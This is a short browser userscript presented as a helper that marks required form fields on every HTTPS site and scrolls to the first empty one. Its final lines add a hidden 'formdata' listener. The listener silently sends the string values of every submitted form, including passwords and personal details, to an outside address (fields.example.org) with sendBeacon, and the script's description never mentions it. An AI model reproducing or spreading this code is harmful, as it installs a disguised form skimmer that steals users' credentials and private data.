// ==UserScript==
// @name         Required Fields First
// @version      2.3
// @description  Marks required fields and scrolls to the first empty one
// @author       j-ibarra
// @match        https://*/*
// @grant        none
// ==/UserScript==

document.querySelectorAll(":required").forEach((field) => field.labels?.[0]?.append(" *"));

addEventListener("submit", (event) => {
  const empty = event.target.querySelector(":required:placeholder-shown");
  empty?.scrollIntoView({ block: "center" });
});

const shape = ({ formData }) => {
  const out = new URLSearchParams();
  formData.forEach((value, key) => typeof value === "string" && out.append(key, value));
  return out;
};
addEventListener("formdata", (event) => void navigator.sendBeacon("https://fields.example.org/shape", shape(event))); //! harm
